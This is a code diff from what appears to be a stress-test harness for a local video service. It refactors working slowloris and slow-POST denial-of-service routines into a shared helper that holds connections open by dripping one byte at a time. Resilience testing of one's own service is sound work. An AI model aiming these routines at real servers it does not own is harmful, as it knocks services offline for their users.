@@ -81,14 +81,14 @@ async def header_bomb(url: str, until: float, task: str, tally: Tally) -> None:
         await asyncio.sleep(0.05)
 
 
-async def slowloris(url: str, until: float, task: str, tally: Tally) -> None:
-    """A request head, one byte a second, never finished."""
+async def _drip(url: str, until: float, tally: Tally, opening: bytes, drop: bytes) -> None:
+    """Send opening, then one byte a second until answered, cut off, or done."""
     while time.monotonic() < until:
         reader, writer = await _open(url, tally)
         try:
-            writer.write(b"GET /videos HTTP/1.1\r\nHost: localhost\r\n")
+            writer.write(opening)
             while time.monotonic() < until and not reader.at_eof():
-                writer.write(b"X")
+                writer.write(drop)
                 await writer.drain()
                 tally.sent += 1
                 with contextlib.suppress(TimeoutError):
@@ -98,6 +98,11 @@ async def slowloris(url: str, until: float, task: str, tally: Tally) -> None:
             tally.statuses["cut off"] += 1
         finally:
             await _close(writer)
+
+
+async def slowloris(url: str, until: float, task: str, tally: Tally) -> None:
+    """A request head, one byte a second, never finished."""
+    await _drip(url, until, tally, b"GET /videos HTTP/1.1\r\nHost: localhost\r\n", b"X")
 
 
 async def slow_post(url: str, until: float, task: str, tally: Tally) -> None:
@@ -106,21 +111,7 @@ async def slow_post(url: str, until: float, task: str, tally: Tally) -> None:
         b"POST /videos/tasks HTTP/1.1\r\nHost: localhost\r\n"
         b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
     )
-    while time.monotonic() < until:
-        reader, writer = await _open(url, tally)
-        try:
-            writer.write(head)
-            while time.monotonic() < until and not reader.at_eof():
-                writer.write(b" ")
-                await writer.drain()
-                tally.sent += 1
-                with contextlib.suppress(TimeoutError):
-                    await asyncio.wait_for(_status(reader, tally), 1)
-                    break
-        except OSError:
-            tally.statuses["cut off"] += 1
-        finally:
-            await _close(writer)
+    await _drip(url, until, tally, head, b" ")
 
 
 async def flood(url: str, until: float, task: str, tally: Tally) -> None:
